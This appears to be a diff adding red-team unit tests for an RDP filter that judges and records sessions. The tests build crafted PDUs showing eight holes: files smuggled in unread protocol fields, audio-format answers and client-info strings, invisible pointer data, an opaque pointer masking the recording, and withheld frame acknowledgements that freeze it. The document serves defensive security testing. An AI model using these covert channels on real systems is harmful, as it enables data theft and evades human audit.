@@ -1,0 +1,682 @@
+//! Red team `h-red17m`'s attacks on the filter's judging of every PDU: each test passes while its
+//! hole is open (asserting the attacker's success), or, once fixed, shows the attack refused.
+//!
+//! The parties are those of red teams `h-red17i` and `h-red17k`: an insider's client (a custom or
+//! patched FreeRDP) and, on the target, a program of the session. On xrdp everything on the
+//! static channels (`drdynvc` and the dynamic channels in it, `rdpsnd`) is spoken for the target by
+//! chansrv, which runs as the session's user; a program of the session opens dynamic channels by
+//! name through xrdpapi and speaks their messages itself.
+
+use super::*;
+use crate::messages::AUDIO_REFUSED;
+
+/// A "file" to move: bytes no protocol field would hold by chance.
+fn file(len: usize) -> Vec<u8> {
+    let mut file = b"\x7fELF\x02\x01\x01\0".to_vec();
+    file.extend((0..len as u32 - 8).map(|i| (i.wrapping_mul(31) ^ (i >> 3)) as u8));
+    file
+}
+
+fn grant(redirection: Redirection) -> Filter {
+    let mut f = red17i::grant_without_anything();
+    f.redirection = redirection;
+    f
+}
+
+fn client_dvc(dvc: &[u8]) -> Vec<u8> {
+    red17i::client_send(red17i::svc(dvc))
+}
+
+fn target_dvc(dvc: &[u8]) -> Vec<u8> {
+    red17i::target_send(red17i::svc(dvc))
+}
+
+/// A static channel chunk on `drdynvc` of a message `total` bytes long.
+fn chunk(total: usize, flags: u32, bytes: &[u8]) -> Vec<u8> {
+    let mut out = u32::try_from(total).unwrap().to_le_bytes().to_vec();
+    out.extend(flags.to_le_bytes());
+    out.extend(bytes);
+    out
+}
+
+fn create(id: u8, name: &str) -> Vec<u8> {
+    let mut create = vec![0x10, id];
+    create.extend(name.as_bytes());
+    create.push(0);
+    create
+}
+
+/// Whether `frame`, as the filter lets it through, still holds `payload`.
+fn carries(verdict: &Verdict, frame: &[u8], payload: &[u8]) -> bool {
+    let out = match verdict {
+        Verdict::Forward => frame,
+        Verdict::Replace(out) => out,
+        Verdict::Drop | Verdict::Refuse(_) => return false,
+    };
+    out.windows(payload.len()).any(|w| w == payload)
+}
+
+/// Hole 1 (open): the dynamic channel layer's own PDUs that carry no channel data — the
+/// Capabilities Request and Response, the Soft-Sync Request and Response — pass whole and unread
+/// both ways, whatever follows their fixed part and however long they are (a Capabilities
+/// Response sent as a first chunk and continuation chunks may be up to 4 GiB long), as often as
+/// either side likes. A DYNVC_CAPS_RSP is 4 bytes; everything after them crosses. Client to
+/// target it reaches whoever reads `drdynvc` for the target (xrdp's chansrv, the session user's
+/// process); target to client the insider's client. No grant opens anything here: the grant is
+/// none at all.
+#[test]
+fn red17m_dvc_capability_and_soft_sync_pdus_carry_a_file_both_ways() {
+    let mut f = grant(Redirection::NONE);
+    let payload = file(60_000);
+    // Client to target: a Capabilities Response (cmd 5, pad, version 3) and the file behind it,
+    // in 1600-byte static chunks as a client sends a long message.
+    let mut caps = vec![0x50, 0x00, 0x03, 0x00];
+    caps.extend(&payload);
+    let mut crossed: Vec<u8> = Vec::new();
+    let pieces: Vec<&[u8]> = caps.chunks(1600).collect();
+    for (i, piece) in pieces.iter().enumerate() {
+        let flags = u32::from(i == 0) | if i + 1 == pieces.len() { 2 } else { 0 };
+        let frame = red17i::client_send(chunk(caps.len(), flags, piece));
+        let verdict = f.from_client(&frame).unwrap();
+        assert!(carries(&verdict, &frame, piece), "chunk {i}: {verdict:?}");
+        crossed.extend(*piece);
+    }
+    assert_eq!(&crossed[4..], &payload[..], "the file reached the target in one capabilities response");
+    // And again, as often as the client likes; and as a Soft-Sync Response (cmd 9).
+    let frame = client_dvc(&caps[..1600]);
+    assert!(carries(&f.from_client(&frame).unwrap(), &frame, &caps[4..1600]), "a second capabilities response");
+    let mut sync = vec![0x90, 0x00];
+    sync.extend(&payload[..1600]);
+    let frame = client_dvc(&sync);
+    assert!(carries(&f.from_client(&frame).unwrap(), &frame, &payload[..1600]), "a soft-sync response");
+
+    // Target to client: a Capabilities Request (version 3, four priority charges) and a
+    // Soft-Sync Request (cmd 8), each with the file behind it.
+    let mut caps = vec![0x50, 0x00, 0x03, 0x00, 0, 0, 0, 0, 0, 0, 0, 0];
+    caps.extend(&payload[..1600]);
+    let frame = target_dvc(&caps);
+    assert!(carries(&f.from_target(&frame).unwrap(), &frame, &payload[..1600]), "a capabilities request");
+    let mut sync = vec![0x80, 0x00];
+    sync.extend(&payload[1600..3200]);
+    let frame = target_dvc(&sync);
+    assert!(carries(&f.from_target(&frame).unwrap(), &frame, &payload[1600..3200]), "a soft-sync request");
+    assert!(f.take_dynamic_decisions().is_empty(), "no channel was even opened");
+}
+
+/// Hole 2 (open): a Create Response and a Close are read only as far as their header (and the
+/// response's status): bytes after them pass, both ways. Display control opens on every grant,
+/// so the target opens it (or a program does, by name), the client answers yes with a file
+/// behind its CreationStatus, closes it with another behind the channel id, the target opens it
+/// again (closing it with a third behind its Close), and so on: a file a round trip each way,
+/// with no display control message ever sent. A Create Request for a channel the grant does not
+/// open has its name overwritten with `!` up to its NUL, and what follows the NUL still reaches
+/// the client.
+#[test]
+fn red17m_create_responses_and_closes_carry_a_file_both_ways() {
+    let mut f = grant(Redirection::NONE);
+    let payload = file(3 * 1500);
+    let pieces: Vec<&[u8]> = payload.chunks(1500).collect();
+    for (round, piece) in pieces.iter().copied().enumerate() {
+        assert_eq!(
+            f.from_target(&target_dvc(&create(5, "Microsoft::Windows::RDS::DisplayControl"))).unwrap(),
+            Verdict::Forward,
+            "round {round}"
+        );
+        // Client to target: yes, and the file.
+        let mut yes = vec![0x10, 5, 0, 0, 0, 0];
+        yes.extend(piece);
+        let frame = client_dvc(&yes);
+        assert!(carries(&f.from_client(&frame).unwrap(), &frame, piece), "create response, round {round}");
+        // Client to target: close, and the file (the client's close on even rounds, the
+        // target's on odd ones: target to client).
+        let mut close = vec![0x40, 5];
+        close.extend(piece);
+        let frame = if round % 2 == 0 { client_dvc(&close) } else { target_dvc(&close) };
+        let verdict = if round % 2 == 0 { f.from_client(&frame) } else { f.from_target(&frame) }.unwrap();
+        assert!(carries(&verdict, &frame, piece), "close, round {round}");
+    }
+    // A refused channel's Create Request: the name is hidden, what follows its NUL is not.
+    let mut request = create(6, "x");
+    request.extend(pieces[0]);
+    let frame = target_dvc(&request);
+    let verdict = f.from_target(&frame).unwrap();
+    assert!(matches!(verdict, Verdict::Replace(_)), "{verdict:?}");
+    assert!(carries(&verdict, &frame, pieces[0]), "the file behind a refused channel's name");
+}
+
+/// Server Audio Formats (`formats` format bodies, each 18 bytes with no extra data) or the
+/// client's answer (`header` its dwFlags .. bPad fields as sent).
+fn sound_formats(header: [u8; 20], formats: &[[u8; 18]]) -> Vec<u8> {
+    let mut b = header.to_vec();
+    b[14..16].copy_from_slice(&u16::try_from(formats.len()).unwrap().to_le_bytes());
+    for format in formats {
+        b.extend(format);
+    }
+    let mut m = vec![7, 0];
+    m.extend(u16::try_from(b.len()).unwrap().to_le_bytes());
+    m.extend(b);
+    m
+}
+
+/// PCM, 2 channels, 16 bits, at `rate` samples a second.
+fn pcm(rate: u32) -> [u8; 18] {
+    let mut f = [0u8; 18];
+    f[0..2].copy_from_slice(&1u16.to_le_bytes());
+    f[2..4].copy_from_slice(&2u16.to_le_bytes());
+    f[4..8].copy_from_slice(&rate.to_le_bytes());
+    f[8..12].copy_from_slice(&(rate * 4).to_le_bytes());
+    f[12..14].copy_from_slice(&4u16.to_le_bytes());
+    f[14..16].copy_from_slice(&16u16.to_le_bytes());
+    f
+}
+
+/// Hole 3 (open): red team `h-red17k` closed the client's Client Audio Formats to formats of the
+/// target's own, once per target's formats. But the target may send its formats as often as it
+/// likes, and the client's answer still carries bytes of its own: (a) its header, of which only
+/// dwFlags' high bits and a non-zero wVersion are checked — dwVolume, dwPitch, wDGramPort,
+/// cLastBlockConfirmed, wVersion's value and bPad are free (14 bytes), and (b) which of the
+/// target's formats it lists, in which order, repeats allowed: with 256 formats offered, each of
+/// up to 256 listed is a free byte. A program on the target that opened `AUDIO_PLAYBACK_DVC`
+/// through xrdpapi (on an audio grant) offers 256 formats, reads the answer and offers them
+/// again: ~270 bytes a round trip, client to target, with no sound played and nothing on screen.
+#[test]
+fn red17m_the_clients_answer_to_sound_formats_carries_a_file_to_the_target() {
+    let mut f = grant(Redirection::NONE.with(Class::Audio));
+    assert_eq!(f.from_target(&target_dvc(&create(5, "AUDIO_PLAYBACK_DVC"))).unwrap(), Verdict::Forward);
+    assert_eq!(f.from_client(&client_dvc(&[0x10, 5, 0, 0, 0, 0])).unwrap(), Verdict::Forward);
+    let data = |m: &[u8]| {
+        let mut pdu = vec![0x30, 5];
+        pdu.extend(m);
+        pdu
+    };
+    let offered: Vec<[u8; 18]> = (0..256u32).map(|i| pcm(8000 + i)).collect();
+    let mut target_header = [0u8; 20];
+    target_header[17..19].copy_from_slice(&6u16.to_le_bytes()); // wVersion 6
+    let offer = sound_formats(target_header, &offered);
+
+    let per_round = 14 + 256;
+    let payload = file(per_round * 4);
+    let mut read_back: Vec<u8> = Vec::new();
+    for (round, block) in payload.chunks(per_round).enumerate() {
+        assert_eq!(f.from_target(&target_dvc(&data(&offer))).unwrap(), Verdict::Forward, "the offer, round {round}");
+        // dwFlags (low 3 bits: 1), dwVolume, dwPitch, wDGramPort, wNumberOfFormats,
+        // cLastBlockConfirmed, wVersion (non-zero), bPad.
+        let (h, choice) = block.split_at(14);
+        let mut header = [0u8; 20];
+        header[0] = 1;
+        header[4..14].copy_from_slice(&h[..10]);
+        header[16] = h[10];
+        header[17..19].copy_from_slice(&u16::from_le_bytes([h[11], h[12]]).max(1).to_le_bytes());
+        header[19] = h[13];
+        let listed: Vec<[u8; 18]> = choice.iter().map(|&b| offered[usize::from(b)]).collect();
+        let answer = sound_formats(header, &listed);
+        assert_eq!(f.from_client(&client_dvc(&data(&answer))).unwrap(), Verdict::Forward, "the answer, round {round}");
+        // What the program reads: the header's free fields, then each format's place in its offer.
+        let b = &answer[4..];
+        read_back.extend(&b[4..14]);
+        read_back.push(b[16]);
+        read_back.extend(&b[17..20]);
+        for format in b[20..].chunks(18) {
+            read_back.push(u8::try_from(offered.iter().position(|o| o == format).unwrap()).unwrap());
+        }
+    }
+    // wVersion 0 is refused, so a block whose version bytes were 0 reads back as 1: compare the rest.
+    let mut expected = payload.clone();
+    for block in expected.chunks_mut(per_round) {
+        if block[11] == 0 && block[12] == 0 {
+            block[11] = 1;
+        }
+    }
+    assert_eq!(read_back, expected, "{} bytes in 4 round trips", payload.len());
+    // Control: a format the target did not offer is still refused.
+    f.from_target(&target_dvc(&data(&offer))).unwrap();
+    let answer = sound_formats([1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 6, 0, 0], &[pcm(44_100)]);
+    assert_eq!(f.from_client(&client_dvc(&data(&answer))).unwrap(), Verdict::Refuse(AUDIO_REFUSED));
+}
+
+/// A Share Data PDU of `pdu_type2` from `source` (stream 1, uncompressed) around `body`.
+fn share_data(source: u16, pdu_type2: u8, body: &[u8]) -> Vec<u8> {
+    let total = u16::try_from(18 + body.len()).unwrap();
+    let mut pdu = total.to_le_bytes().to_vec();
+    pdu.extend(0x0017u16.to_le_bytes());
+    pdu.extend(source.to_le_bytes());
+    pdu.extend(0x0001_03EAu32.to_le_bytes());
+    pdu.extend([0, 1]);
+    pdu.extend(u16::try_from(4 + body.len()).unwrap().to_le_bytes());
+    pdu.extend([pdu_type2, 0, 0, 0]);
+    pdu.extend(body);
+    pdu
+}
+
+fn client_io(user_data: Vec<u8>, channel: u16) -> Vec<u8> {
+    encode_vec(&X224(SendDataRequest { initiator_id: 1007, channel_id: channel, user_data: Cow::Owned(user_data) }))
+        .unwrap()
+}
+
+fn target_io(user_data: Vec<u8>, channel: u16) -> Vec<u8> {
+    encode_vec(&X224(SendDataIndication { initiator_id: 1002, channel_id: channel, user_data: Cow::Owned(user_data) }))
+        .unwrap()
+}
+
+/// Hole 4 (open): "every PDU judged" stops at the fields the filter acts on. Past activation,
+/// on the I/O channel and the message channel, these pass with whatever body they carry, up to
+/// a TPKT's length (~64 KiB) a PDU, as often as the sender likes, on any grant:
+/// - client to target: a fast-path input PDU's bytes after its last event (IronRDP's
+///   `FastPathInput` reads numEvents events and stops; so does xrdp), a slow-path Input PDU's
+///   bytes after its events (IronRDP reads them as "padding"), and the whole body of every Share
+///   Data PDU the filter does not read (Synchronize, Refresh Rect, Persistent Key List, Shutdown
+///   Request, Frame Acknowledge, ... and the server's own types, which no client sends), and an
+///   auto-detect response's body on the message channel;
+/// - target to client: the body of every Share Data PDU but updates and pointers (Save Session
+///   Info, Monitor Layout, Play Sound, Set Keyboard Indicators, ...), and auto-detect requests' and
+///   heartbeats' bodies.
+///
+/// The reader is the target's RDP server (Windows' `rdpwd`/`termsrv`, xrdp's `xrdp` process): a
+/// pipe for an insider who controls the target (its administrator), not for a program of the
+/// session. The key track and the recording see none of it.
+#[test]
+fn red17m_pdu_bodies_the_filter_does_not_read_carry_a_file_to_and_from_the_targets_rdp_server() {
+    let mut f = grant(Redirection::NONE);
+    f.message_channel = Some(1005);
+    let payload = file(30_000);
+    // Fast-path: one key event (scan code 0x1E down), then the file, in one PDU.
+    let length = 3 + 2 + payload.len();
+    let mut fast = vec![0x04, 0x80 | (length >> 8) as u8, length as u8, 0x00, 0x1E];
+    fast.extend(&payload);
+    let verdict = f.from_client(&fast).unwrap();
+    assert!(carries(&verdict, &fast, &payload), "fast-path input: {verdict:?}");
+    // Slow-path Input PDU: one event (a sync), then the file.
+    let mut input = vec![1, 0, 0, 0];
+    input.extend([0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]); // eventTime, messageType sync, pad, toggles
+    input.extend(&payload[..20_000]);
+    let frame = client_io(share_data(1007, 0x1C, &input), 1003);
+    let verdict = f.from_client(&frame).unwrap();
+    assert!(carries(&verdict, &frame, &payload[..20_000]), "slow-path input: {verdict:?}");
+    // Share Data PDUs the filter does not read, and a server's type from the client.
+    for kind in [0x1F, 0x21, 0x2B, 0x24, 0x38, 0x26, 0x37] {
+        let frame = client_io(share_data(1007, kind, &payload[..20_000]), 1003);
+        let verdict = f.from_client(&frame).unwrap();
+        assert!(carries(&verdict, &frame, &payload[..20_000]), "client pduType2 {kind:#x}: {verdict:?}");
+    }
+    // The message channel: an auto-detect response (SEC_AUTODETECT_RSP) and the file.
+    let mut rsp = vec![0x00, 0x20, 0x00, 0x00];
+    rsp.extend(&payload[..20_000]);
+    let frame = client_io(rsp, 1005);
+    assert!(carries(&f.from_client(&frame).unwrap(), &frame, &payload[..20_000]), "auto-detect response");
+
+    // Target to client.
+    for kind in [0x26, 0x37, 0x22, 0x29, 0x36] {
+        let frame = target_io(share_data(1002, kind, &payload[..20_000]), 1003);
+        let verdict = f.from_target(&frame).unwrap();
+        assert!(carries(&verdict, &frame, &payload[..20_000]), "target pduType2 {kind:#x}: {verdict:?}");
+    }
+    for flags in [0x1000u16, 0x4000] {
+        let mut req = flags.to_le_bytes().to_vec();
+        req.extend([0, 0]);
+        req.extend(&payload[..20_000]);
+        let frame = target_io(req, 1005);
+        assert!(carries(&f.from_target(&frame).unwrap(), &frame, &payload[..20_000]), "message channel {flags:#x}");
+    }
+}
+
+/// Hole 5 (open): a pointer shape is a pipe from the target to the client that the recording
+/// cannot show. A 32 bpp pointer's pixels whose alpha is 0 are drawn by no one — FreeRDP blends
+/// them away, and the recorder's stage (IronRDP's software pointer, "colors with alpha 0x00 are
+/// always invisible no matter their color") skips them — yet each carries three free colour
+/// bytes, and its AND mask bit is free too. Any program of the session sets such a cursor (an X
+/// ARGB cursor through XFixes or Xcursor, which xorgxrdp sends as a 32 bpp pointer; Windows'
+/// `CreateIconIndirect`), on any grant, as often as it likes; the filter passes pointer updates
+/// unread. A 64x64 New Pointer in one fast-path PDU carries 12.7 KB of a file (96x96 in
+/// fragments 28 KB; a large pointer, 384x384, if the client says it takes them, 460 KB); the video
+/// shows nothing at all where the pointer is.
+#[test]
+fn red17m_an_invisible_pointer_carries_a_file_from_the_target_unrecorded() {
+    use ironrdp_graphics::pointer::{DecodedPointer, PointerBitmapTarget};
+    use ironrdp_pdu::pointer::PointerAttribute;
+    let mut f = grant(Redirection::NONE);
+    let (w, h) = (64usize, 64usize);
+    let payload = file(w * h * 3 + w * h / 8);
+    let (colours, and_mask) = payload.split_at(w * h * 3);
+    // TS_FP_POINTERATTRIBUTE: xorBpp 32, then TS_COLORPOINTERATTRIBUTE.
+    let mut body = 32u16.to_le_bytes().to_vec();
+    body.extend(0u16.to_le_bytes()); // cacheIndex
+    body.extend([0, 0, 0, 0]); // hotSpot
+    body.extend(u16::try_from(w).unwrap().to_le_bytes());
+    body.extend(u16::try_from(h).unwrap().to_le_bytes());
+    body.extend(u16::try_from(and_mask.len()).unwrap().to_le_bytes());
+    body.extend(u16::try_from(w * h * 4).unwrap().to_le_bytes());
+    for rgb in colours.chunks(3) {
+        body.extend(rgb);
+        body.push(0); // alpha 0: drawn by no one
+    }
+    body.extend(and_mask);
+    // fpOutputHeader, length (2 bytes), then the update: code 0xB (New Pointer), size, body.
+    let length = 3 + 3 + body.len();
+    let mut pdu = vec![0x00, 0x80 | (length >> 8) as u8, length as u8, 0x0B];
+    pdu.extend(u16::try_from(body.len()).unwrap().to_le_bytes());
+    pdu.extend(&body);
+    let verdict = f.from_target(&pdu).unwrap();
+    assert_eq!(verdict, Verdict::Forward, "the pointer passes");
+    // What the insider's client reads off the wire: every colour byte and mask bit.
+    let attribute: PointerAttribute<'_> = decode(&body).unwrap();
+    let mut read_back: Vec<u8> = Vec::new();
+    for pixel in attribute.color_pointer.xor_mask.chunks(4) {
+        read_back.extend(&pixel[..3]);
+    }
+    read_back.extend(attribute.color_pointer.and_mask);
+    assert_eq!(read_back, payload);
+    // What the recorder draws of it: nothing (every pixel fully transparent, which the stage's
+    // compositing skips).
+    let drawn = DecodedPointer::decode_pointer_attribute(&attribute, PointerBitmapTarget::Software).unwrap();
+    assert_eq!(drawn.bitmap_data.len(), w * h * 4);
+    assert!(
+        drawn.bitmap_data.chunks(4).all(|p| p[3] == 0 && p[..3] != [0xFF, 0xFF, 0xFF]),
+        "some pixel of the pointer shows"
+    );
+}
+
+/// Hole 6 (open, small): the Client Info rewrite replaces the credential and drops what the grant
+/// does not open, but keeps the client's own strings whole: clientAddress and clientDir (read and
+/// re-encoded by IronRDP with no bound; MS-RDPBCGR caps them at 80 and 512 bytes), which Windows
+/// hands to any program of the session (`WTSQuerySessionInformation` with `WTSClientAddress`,
+/// `WTSClientDirectory`). One byte a character here (a CJK character is 12 free bits: ~440 bytes
+/// within the spec's caps), client to target, once a connection; the box's audit shows none of it.
+#[test]
+fn red17m_the_client_infos_own_address_and_directory_carry_bytes_to_the_target() {
+    use ironrdp_pdu::rdp::client_info::{AddressFamily, ClientInfo, ExtendedClientInfo, ExtendedClientOptionalInfo};
+    use ironrdp_pdu::rdp::headers::BasicSecurityHeader;
+    let payload = file(39 + 255);
+    let text =
+        |bytes: &[u8]| -> String { bytes.iter().map(|&b| char::from_u32(0x4E00 + u32::from(b)).unwrap()).collect() };
+    let pdu = ClientInfoPdu {
+        security_header: BasicSecurityHeader { flags: BasicSecurityHeaderFlags::INFO_PKT },
+        client_info: ClientInfo {
+            credentials: Credentials { username: "alice".into(), password: "box-password".into(), domain: None },
+            password_cookie: None,
+            code_page: 0,
+            flags: ClientInfoFlags::MOUSE | ClientInfoFlags::UNICODE,
+            compression_type: CompressionType::K8,
+            alternate_shell: String::new(),
+            work_dir: String::new(),
+            extra_info: ExtendedClientInfo {
+                address_family: AddressFamily::INET,
+                address: text(&payload[..39]),
+                dir: text(&payload[39..]),
+                optional_data: ExtendedClientOptionalInfo::default(),
+            },
+        },
+    };
+    let mut f = Filter::new(SecurityProtocol::SSL, Redirection::NONE, red17i_injection());
+    (f.connect_initial_seen, f.io_channel) = (true, Some(1003));
+    let frame = client_io(encode_vec(&pdu).unwrap(), 1003);
+    let Verdict::Replace(out) = f.from_client(&frame).unwrap() else { panic!("client info not rewritten") };
+    let X224(McsMessage::SendDataRequest(req)) = decode::<X224<McsMessage<'_>>>(&out).unwrap() else { panic!() };
+    let info = decode::<ClientInfoPdu>(&req.user_data).unwrap().client_info;
+    assert_eq!(info.credentials.username, "root", "rewritten");
+    // What a program on the target reads back.
+    let read: Vec<u8> = format!("{}{}", info.extra_info.address, info.extra_info.dir)
+        .chars()
+        .map(|c| u8::try_from(u32::from(c) - 0x4E00).unwrap())
+        .collect();
+    assert_eq!(read, payload);
+}
+
+fn red17i_injection() -> Injection {
+    Injection { username: "root".into(), domain: Some("TGT".into()), password: "target-secret".into() }
+}
+
+/// A client Confirm Active (source descriptor "MSTSC") holding `sets` (each type, then body).
+fn confirm_active(sets: &[(u16, Vec<u8>)]) -> Vec<u8> {
+    let mut caps = u16::try_from(sets.len()).unwrap().to_le_bytes().to_vec();
+    caps.extend([0, 0]);
+    for (kind, body) in sets {
+        caps.extend(kind.to_le_bytes());
+        caps.extend(u16::try_from(4 + body.len()).unwrap().to_le_bytes());
+        caps.extend(body);
+    }
+    let source = b"MSTSC\0";
+    let mut pdu = u16::try_from(6 + 4 + 2 + 2 + 2 + source.len() + caps.len()).unwrap().to_le_bytes().to_vec();
+    pdu.extend(0x0013u16.to_le_bytes());
+    pdu.extend(1007u16.to_le_bytes());
+    pdu.extend(0x0001_03EAu32.to_le_bytes());
+    pdu.extend(1002u16.to_le_bytes());
+    pdu.extend(u16::try_from(source.len()).unwrap().to_le_bytes());
+    pdu.extend(u16::try_from(caps.len()).unwrap().to_le_bytes());
+    pdu.extend(source);
+    pdu.extend(caps);
+    pdu
+}
+
+/// Hole 4, continued: a Confirm Active's capability sets of a type the filter does not trim pass
+/// whole (an unknown type, 0x7F7F here, with the file as its body: servers skip it by its
+/// length), and before activation a licence PDU whose header and wMsgSize fit passes with any
+/// body (a New License Request's client user and machine name blobs are free-form).
+#[test]
+fn red17m_capability_sets_and_licence_pdus_carry_a_file_to_the_targets_rdp_server() {
+    let payload = file(20_000);
+    let mut f = grant(Redirection::NONE);
+    let frame = client_io(confirm_active(&[(0x7F7F, payload.clone())]), 1003);
+    let verdict = f.from_client(&frame).unwrap();
+    assert!(carries(&verdict, &frame, &payload), "confirm active: {verdict:?}");
+    // Before activation: SEC_LICENSE_PKT, then a preamble (NEW_LICENSE_REQUEST, version 3) whose
+    // wMsgSize covers the file.
+    let mut f = grant(Redirection::NONE);
+    f.active = false;
+    let mut licence = 0x0080u32.to_le_bytes().to_vec();
+    licence.extend([0x13, 0x03]);
+    licence.extend(u16::try_from(4 + payload.len()).unwrap().to_le_bytes());
+    licence.extend(&payload);
+    let frame = client_io(licence, 1003);
+    let verdict = f.from_client(&frame).unwrap();
+    assert!(carries(&verdict, &frame, &payload), "licence pdu: {verdict:?}");
+}
+
+/// Hole 7 (open): the filter drops the client's Suppress Output ("a minimised client stops the
+/// target's updates; the recording must not stop"), but a client has another way to stop them:
+/// frame acknowledgement. Its Confirm Active may carry the Frame Acknowledge capability set
+/// (MS-RDPBCGR 2.2.7.2.10: maxUnacknowledgedFrameCount, how many frames the server may send
+/// unacknowledged), which passes untrimmed; the client then never sends a Frame Acknowledge PDU
+/// (and on the graphics pipeline, never an RDPGFX_FRAME_ACKNOWLEDGE), and the target stops
+/// drawing after that many frames (xrdp holds its updates until the client's frame ack catches
+/// up; Windows the same on the graphics pipeline). A scripted client types blind while the
+/// video stands still, then acknowledges and the screen resumes — what Suppress Output did.
+/// Nothing in the filter sees a missing acknowledgement. (This unit test shows the capability
+/// set and the acknowledgements the client chooses to send crossing untouched; the target's
+/// stall itself needs a live xrdp, which another helper owns.)
+#[test]
+fn red17m_a_client_that_withholds_frame_acknowledgements_stops_the_recording_like_suppress_output() {
+    let mut f = grant(Redirection::NONE);
+    // Control: Suppress Output (allowDisplayUpdates 0) is dropped.
+    let suppress = client_io(share_data(1007, 35, &[0, 0, 0, 0]), 1003);
+    assert_eq!(f.from_client(&suppress).unwrap(), Verdict::Drop, "suppress output");
+    // CAPSETTYPE_FRAME_ACKNOWLEDGE (0x1E), maxUnacknowledgedFrameCount 1.
+    let frame = client_io(confirm_active(&[(0x1E, 1u32.to_le_bytes().to_vec())]), 1003);
+    let verdict = f.from_client(&frame).unwrap();
+    let out = match &verdict {
+        Verdict::Forward => frame.clone(),
+        Verdict::Replace(out) => out.clone(),
+        other => panic!("{other:?}"),
+    };
+    assert!(out.windows(8).any(|w| w == [0x1E, 0, 8, 0, 1, 0, 0, 0]), "the frame acknowledge set crossed intact");
+    // A Frame Acknowledge PDU (0x38) for an old frame passes as the client sends it.
+    let ack = client_io(share_data(1007, 0x38, &0u32.to_le_bytes()), 1003);
+    assert_eq!(f.from_client(&ack).unwrap(), Verdict::Forward);
+}
+
+/// The captured freerdp-shadow session without the graphics pipeline (320x240), replayed
+/// through the filter, the recorder's decoder shown what passes.
+fn replayed_bitmap_session() -> (Filter, crate::decode::PassiveDecoder) {
+    use crate::decode::{PassiveDecoder, capture_records};
+    let mut filter = Filter::new(SecurityProtocol::HYBRID, Redirection::NONE, red17i_injection());
+    let mut decoder = PassiveDecoder::new();
+    for (tag, frame) in capture_records(include_bytes!("testdata/shadow_bitmap.cap")) {
+        if tag != b'C' && tag != b'T' {
+            continue;
+        }
+        let verdict = if tag == b'C' { filter.from_client(frame) } else { filter.from_target(frame) }.unwrap();
+        let out = match verdict {
+            Verdict::Forward => frame.to_vec(),
+            Verdict::Replace(out) => out,
+            Verdict::Drop => continue,
+            Verdict::Refuse(why) => panic!("the capture was refused: {why}"),
+        };
+        if tag == b'C' {
+            decoder.observe_client(&out).unwrap();
+        } else {
+            decoder.observe_target(&out).unwrap();
+        }
+    }
+    (filter, decoder)
+}
+
+/// A fast-path bitmap update: one raw 32 bpp `size` x `size` square of `bgrx` at `left`, `top`.
+fn square(left: u16, top: u16, size: u16, bgrx: [u8; 4]) -> Vec<u8> {
+    let pixels = usize::from(size) * usize::from(size);
+    let mut update = vec![0x01, 0x00, 0x01, 0x00];
+    for v in [left, top, left + size - 1, top + size - 1, size, size, 32, 0] {
+        update.extend(v.to_le_bytes());
+    }
+    update.extend(u16::try_from(pixels * 4).unwrap().to_le_bytes());
+    update.extend(bgrx.repeat(pixels));
+    fast_path_update(0x01, &update)
+}
+
+/// A fast-path output PDU of one update of `code`.
+fn fast_path_update(code: u8, body: &[u8]) -> Vec<u8> {
+    let length = 3 + 3 + body.len();
+    let mut pdu = vec![0x00, 0x80 | (length >> 8) as u8, length as u8, code];
+    pdu.extend(u16::try_from(body.len()).unwrap().to_le_bytes());
+    pdu.extend(body);
+    pdu
+}
+
+/// A 32 bpp New Pointer (fast-path 0xB) of `size` x `size` opaque pixels of `bgr`, hot spot 0,0.
+fn opaque_pointer(size: u16, bgr: [u8; 3]) -> Vec<u8> {
+    let pixels = usize::from(size) * usize::from(size);
+    let and_mask = (usize::from(size).div_ceil(16) * 2) * usize::from(size);
+    let mut body = 32u16.to_le_bytes().to_vec();
+    body.extend(0u16.to_le_bytes());
+    body.extend([0, 0, 0, 0]);
+    body.extend(size.to_le_bytes());
+    body.extend(size.to_le_bytes());
+    body.extend(u16::try_from(and_mask).unwrap().to_le_bytes());
+    body.extend(u16::try_from(pixels * 4).unwrap().to_le_bytes());
+    body.extend([bgr[0], bgr[1], bgr[2], 0xFF].repeat(pixels));
+    body.extend(vec![0; and_mask]);
+    fast_path_update(0x0B, &body)
+}
+
+/// Hole 8 (open): the recorder draws the pointer into the video (software rendering, at the
+/// client's last mouse position), so the pointer is a patch of the recorded screen that the
+/// target's program paints and the client places. A program of the session sets an opaque
+/// cursor as big as the client takes (64x64 here; 96x96, or 384x384 with the large pointer
+/// capability, which passes untrimmed) showing harmless pixels; the insider's client does not
+/// draw pointers (it is its own) and keeps its mouse over what it works on — a terminal, a file
+/// being read: the recording shows the program's picture there, the client the real screen. No
+/// gap is stated: the decoder drew everything it was sent.
+#[test]
+fn red17m_a_big_opaque_pointer_masks_the_recorded_screen_where_the_client_points() {
+    let (mut filter, mut decoder) = replayed_bitmap_session();
+    let target = |filter: &mut Filter, decoder: &mut crate::decode::PassiveDecoder, frame: Vec<u8>| {
+        assert_eq!(filter.from_target(&frame).unwrap(), Verdict::Forward, "the filter refused it");
+        decoder.observe_target(&frame).expect("decoded")
+    };
+    const RED: [u8; 4] = [0, 0, 255, 0];
+    // What the admin works on: a red square at (100, 100), 64x64, drawn by the target.
+    target(&mut filter, &mut decoder, square(100, 100, 64, RED));
+    let screen_at = |d: &crate::decode::PassiveDecoder, x: usize, y: usize| {
+        let s = d.screen().expect("a screen");
+        let at = y * s.stride + x * 4;
+        [s.bgrx[at], s.bgrx[at + 1], s.bgrx[at + 2]]
+    };
+    assert_eq!(screen_at(&decoder, 130, 130), [0, 0, 255], "recorded before the mask");
+    // The client's mouse rests on it (fast-path mouse move to 100, 100).
+    let mut mouse = vec![0x04, 9, 0x20];
+    mouse.extend(0x0800u16.to_le_bytes());
+    mouse.extend(100u16.to_le_bytes());
+    mouse.extend(100u16.to_le_bytes());
+    assert_eq!(filter.from_client(&mouse).unwrap(), Verdict::Forward);
+    decoder.observe_client(&mouse).unwrap();
+    // The program's cursor: 64x64 opaque green (its "harmless" picture).
+    target(&mut filter, &mut decoder, opaque_pointer(64, [0, 255, 0]));
+    target(&mut filter, &mut decoder, square(100, 100, 64, RED));
+    // The whole square is the pointer's picture in the recording.
+    // (IronRDP's software pointer squares each colour channel: 255 is drawn 254.)
+    for y in 100..164 {
+        for x in 100..164 {
+            let [b, g, r] = screen_at(&decoder, x, y);
+            assert!(b == 0 && r == 0 && g >= 254, "the recording at {x},{y} shows {:?}", [b, g, r]);
+        }
+    }
+}
+
